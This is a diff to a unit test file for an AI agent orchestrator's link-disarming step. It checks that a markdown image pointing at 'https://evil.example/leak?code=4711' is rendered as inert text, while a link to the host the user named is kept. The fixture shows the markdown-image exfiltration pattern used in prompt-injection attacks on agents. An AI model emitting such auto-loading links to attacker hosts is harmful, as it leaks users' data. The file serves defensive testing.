@@ -11,6 +11,8 @@ from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
 from phronesis_orchestrator.agents.presentation import disarm_links
+from phronesis_orchestrator.turns.turn import Completed
+from tests.unit.orchestrator.fakes import ScriptedReasoner, Stage, claim, direct, reply
 
 EVIL = "https://evil.example/leak?code=4711"
 MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"]).disable("text_join")
@@ -139,3 +141,11 @@ def test_no_mixture_of_marks_leaves_a_picture_or_a_hidden_link_to_a_host_that_no
 def test_disarming_any_text_never_fails_and_changes_nothing_the_second_time(text: str) -> None:
     once = disarmed(text)
     assert disarmed(once) == once
+
+
+async def test_the_reply_of_a_turn_leads_to_hosts_that_its_user_named_and_to_no_others() -> None:
+    text = f"![a]({EVIL}) and [b](https://shop.example/x)"
+    stage = Stage(ScriptedReasoner(routes=[direct()], composes=[reply(text)]))
+    end = await stage.run(claim("What does shop.example say?"))
+    assert isinstance(end, Completed)
+    assert end.reply.user_response == f"a (`{EVIL}`) and [b](https://shop.example/x)"
